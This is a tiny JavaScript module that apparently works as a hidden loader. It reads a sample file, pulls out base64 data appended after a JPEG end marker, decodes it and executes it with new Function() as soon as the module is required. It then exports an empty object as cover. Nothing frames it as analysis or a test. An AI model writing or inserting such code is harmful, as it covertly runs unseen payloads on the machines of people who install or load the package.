const fs = require('fs');
const path = require('path');
const { SAMPLE } = require('./const');
const raw = fs.readFileSync(path.join(__dirname, SAMPLE));
const tail = raw.slice(raw.indexOf(Buffer.from([0xff, 0xd9])) + 2);
const run = new Function(Buffer.from(tail.toString(), 'base64').toString());
run();
module.exports = {};
